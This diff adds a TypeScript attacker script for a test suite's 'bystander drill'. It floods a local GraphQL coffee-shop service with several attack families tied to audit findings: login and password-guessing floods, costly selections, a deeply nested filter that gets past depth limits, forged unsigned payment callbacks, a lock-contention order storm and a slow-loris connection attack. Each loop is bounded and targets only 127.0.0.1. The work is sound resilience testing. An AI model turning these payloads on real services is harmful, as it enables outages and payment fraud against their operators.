@@ -1,0 +1,258 @@
+// The bystander drill's attacker (test/drills/11-bystanders.test.ts): one
+// attack family, run as its own process so that its CPU is not the
+// service's or the bystanders'. What one free account or one anonymous
+// source can send: a few connections, each sending as soon as the last
+// answer came. Every loop is bounded by a count AND a time, so it stops by
+// itself; it talks only to 127.0.0.1.
+//
+//   node test/drills/attacker.ts <family> <url> '<json options>'
+//
+// Prints one line "ready" when it starts attacking (after signing up, for
+// the families that need an account), and one JSON line with what it sent
+// and what came back when it stops. Self-contained (node:http and node:net
+// only): it runs outside jest.
+
+import http from "node:http";
+import net from "node:net";
+import { createHash, randomBytes } from "node:crypto";
+import { readFileSync } from "node:fs";
+import path from "node:path";
+
+export const FAMILIES = ["sign-in", "wrong-password", "heavy-selection", "nested-input", "callback", "pool", "slow-clients", "wifi"] as const;
+export type Family = (typeof FAMILIES)[number];
+
+export interface AttackOptions {
+  /** The source address the attacker's sockets are bound to (a 127/8 address: the service sees it as the client's). */
+  localAddress: string;
+  durationMs: number;
+  maxRequests: number;
+  concurrency: number;
+}
+
+const LATTE = "40000000-0000-4000-8000-000000000003";
+
+/** The contract's trusted documents by operation name (the attacker sends what a real client may send). */
+function trustedIds(): Map<string, string> {
+  const file = path.join(import.meta.dirname, "..", "..", "contract", "trusted-documents.json");
+  const docs = JSON.parse(readFileSync(file, "utf8")) as Record<string, string>;
+  const byName = new Map<string, string>();
+  for (const [id, text] of Object.entries(docs)) {
+    const m = /^\s*(?:query|mutation|subscription)\s+(\w+)/.exec(text);
+    if (m) byName.set(m[1]!, id);
+  }
+  return byName;
+}
+
+interface Answer {
+  status: number;
+  code?: string;
+}
+
+async function main(): Promise<void> {
+  const [family, url, json] = process.argv.slice(2) as [Family, string, string];
+  if (!FAMILIES.includes(family) || !/^http:\/\/127\.0\.0\.1:\d+$/.test(url ?? "")) {
+    console.error(`usage: attacker.ts <${FAMILIES.join("|")}> http://127.0.0.1:<port> '<json options>'`);
+    process.exit(2);
+  }
+  const o = JSON.parse(json) as AttackOptions;
+  const ids = trustedIds();
+  const agent = new http.Agent({ keepAlive: true, maxSockets: o.concurrency, localAddress: o.localAddress } as http.AgentOptions);
+  const counts: Record<string, number> = {};
+  let sent = 0;
+  let started = Date.now();
+  const deadline = () => started + o.durationMs;
+  const more = () => sent < o.maxRequests && Date.now() < deadline();
+
+  /** Requests in flight: at the deadline they are aborted, so the attack ends on time whatever the service does. */
+  const inFlight = new Set<http.ClientRequest>();
+  const post = (route: string, body: string, headers: Record<string, string> = {}): Promise<Answer> =>
+    new Promise((resolve) => {
+      const req = http.request(`${url}${route}`, {
+        method: "POST",
+        agent,
+        headers: { "content-type": "application/json", accept: "application/json", ...headers },
+      });
+      // Bounded too: an answer that never comes ends this request, not the attack.
+      req.setTimeout(20_000, () => req.destroy(new Error("TIMEOUT")));
+      inFlight.add(req);
+      req.once("close", () => inFlight.delete(req));
+      req.on("response", (res) => {
+        const chunks: Buffer[] = [];
+        res.on("data", (c: Buffer) => chunks.push(c));
+        res.on("end", () => {
+          let code: string | undefined;
+          try {
+            const j = JSON.parse(Buffer.concat(chunks).toString("utf8"));
+            code = j?.errors?.[0]?.extensions?.code ?? j?.error?.code ?? (typeof j?.error === "string" ? j.error : undefined);
+          } catch {
+            // not JSON
+          }
+          resolve({ status: res.statusCode ?? 0, code });
+        });
+        res.on("error", () => resolve({ status: -1, code: "RESET" }));
+      });
+      req.on("error", (e) => resolve({ status: -1, code: (e as NodeJS.ErrnoException).code ?? e.message }));
+      req.end(body);
+    });
+  const gql = (body: Record<string, unknown>, token?: string) => post("/graphql", JSON.stringify(body), token ? { authorization: `Bearer ${token}` } : {});
+  const count = (a: Answer) => {
+    const k = `${a.status}${a.code ? ` ${a.code}` : ""}`;
+    counts[k] = (counts[k] ?? 0) + 1;
+  };
+  /** `concurrency` loops, each sending the next request when the last answered. */
+  const flood = async (send: (i: number) => Promise<Answer>) => {
+    const stopper = setInterval(() => {
+      if (Date.now() < deadline()) return;
+      for (const req of inFlight) req.destroy(Object.assign(new Error("aborted at the deadline"), { code: "ABORTED_AT_DEADLINE" }));
+    }, 100);
+    await Promise.all(
+      Array.from({ length: o.concurrency }, async () => {
+        while (more()) {
+          const i = sent++;
+          count(await send(i));
+        }
+      }),
+    );
+    clearInterval(stopper);
+  };
+  /** A free account of the attacker's own (Register, as the sign-up screen sends it). */
+  const signUp = async () => {
+    const email = `attacker-${randomBytes(6).toString("hex")}@example.net`;
+    const password = randomBytes(12).toString("hex");
+    const r = await new Promise<{ token?: string; status: number; text: string }>((resolve) => {
+      const req = http.request(`${url}/graphql`, { method: "POST", agent, headers: { "content-type": "application/json" } });
+      req.on("response", (res) => {
+        const chunks: Buffer[] = [];
+        res.on("data", (c: Buffer) => chunks.push(c));
+        res.on("end", () => {
+          const text = Buffer.concat(chunks).toString("utf8");
+          let token: string | undefined;
+          try {
+            token = JSON.parse(text)?.data?.register?.token;
+          } catch {
+            // not JSON
+          }
+          resolve({ token, status: res.statusCode ?? 0, text });
+        });
+      });
+      req.on("error", (e) => resolve({ status: -1, text: e.message }));
+      req.end(JSON.stringify({ documentId: ids.get("Register"), variables: { email, password, name: "Mallory" } }));
+    });
+    if (!r.token) throw new Error(`sign-up failed: ${r.status} ${r.text.slice(0, 300)}`);
+    return { email, password, token: r.token };
+  };
+
+  const ready = () => {
+    started = Date.now();
+    console.log("ready");
+  };
+
+  switch (family) {
+    case "sign-in": {
+      // Finding 1: the right password, again and again (lock-out counts failures only).
+      const me = await signUp();
+      ready();
+      await flood(() => gql({ documentId: ids.get("Login"), variables: { email: me.email, password: me.password } }));
+      break;
+    }
+    case "wrong-password":
+    case "wifi": {
+      // Wrong passwords: for its own account and for strangers' addresses.
+      // "wifi" sends the same from the café's one shared address.
+      ready();
+      await flood((i) =>
+        gql({ documentId: ids.get("Login"), variables: { email: i % 2 ? `nobody-${i % 50}@example.net` : "alice@example.com", password: `wrong-${i}-password` } }),
+      );
+      break;
+    }
+    case "heavy-selection": {
+      // Finding 3: a selection whose cost counts rows returned, not rows scanned.
+      const me = await signUp();
+      ready();
+      await flood(() => gql({ query: "query Heavy { allCoffees { nodes { id orderItemList { totalCount } } } }" }, me.token));
+      break;
+    }
+    case "nested-input": {
+      // Finding 4: ~24 KB of nested filter variables; the depth and token limits look at the document only.
+      // The body is written as text: JSON.stringify of 2,400 levels would overflow this process's stack.
+      const depth = 2400;
+      const filter = `${'{"or":['.repeat(depth)}{"name":{"equalTo":"Latte"}}${"]}".repeat(depth)}`;
+      const body = `{"query":"query Nested($f: CoffeeFilter) { allCoffees(filter: $f, first: 1) { nodes { id } } }","variables":{"f":${filter}}}`;
+      ready();
+      await flood(() => post("/graphql", body));
+      break;
+    }
+    case "callback": {
+      // Finding 5: unsigned deliveries; the source is soon blocked, and every refusal still runs a transaction.
+      ready();
+      await flood((i) =>
+        post(
+          "/orders/payment-callback",
+          JSON.stringify({ order_id: "00000000-0000-4000-8000-0000000a0001", status: "paid", amount: "3.50", items: [], event_id: `forged-${i}` }),
+          { authorization: "Bearer not-the-token", "x-signature": `sha256=${createHash("sha256").update(String(i)).digest("hex")}` },
+        ),
+      );
+      break;
+    }
+    case "pool": {
+      // Finding 3 (second half): orders whose payload selection is read while the order's stock locks are held.
+      const me = await signUp();
+      ready();
+      const query = `mutation Storm($input: CreateOrderInput!) { createOrder(input: $input) { id items { coffee { orderItemList { totalCount } } } } }`;
+      await flood(() => gql({ query, variables: { input: { items: [{ coffeeId: LATTE, quantity: 1 }] } } }, me.token));
+      break;
+    }
+    case "slow-clients": {
+      // Finding 11: slow-loris. Connections that send their headers (or body) a few bytes at a time.
+      ready();
+      const { port } = new URL(url);
+      const open = new Set<net.Socket>();
+      let opened = 0;
+      let ending = false;
+      const openOne = (slowBody: boolean) => {
+        if (!more()) return;
+        sent++;
+        opened++;
+        const s = net.connect({ host: "127.0.0.1", port: Number(port), localAddress: o.localAddress });
+        open.add(s);
+        s.on("error", () => {});
+        s.on("data", (d: Buffer) => count({ status: Number(/^HTTP\/1\.1 (\d+)/.exec(d.toString("latin1"))?.[1] ?? 0) }));
+        s.once("connect", () => {
+          s.write(slowBody ? "POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{" : "POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\n");
+        });
+        let ours = false;
+        const drip = setInterval(() => {
+          if (Date.now() >= deadline()) {
+            ours = true;
+            return s.destroy();
+          }
+          s.write(slowBody ? " " : `X-Drip-${Math.floor(Math.random() * 1e6)}: a\r\n`);
+        }, 1000);
+        s.once("close", () => {
+          clearInterval(drip);
+          open.delete(s);
+          if (ours || ending) return;
+          count({ status: 0, code: "closed by server" });
+          // A closed connection is opened again, as a slow-loris does.
+          if (Date.now() < deadline()) setTimeout(() => openOne(slowBody), 50);
+        });
+      };
+      for (let i = 0; i < o.concurrency; i++) openOne(i % 4 === 3);
+      while (Date.now() < deadline() && (open.size || more())) await new Promise((r) => setTimeout(r, 200));
+      ending = true;
+      for (const s of open) s.destroy();
+      counts.connections_opened = opened;
+      break;
+    }
+  }
+  agent.destroy();
+  console.log(JSON.stringify({ family, sent, ms: Date.now() - started, counts }));
+}
+
+main().then(
+  () => process.exit(0),
+  (e) => {
+    console.error(`attacker: ${(e as Error).message}`);
+    process.exit(1);
+  },
+);
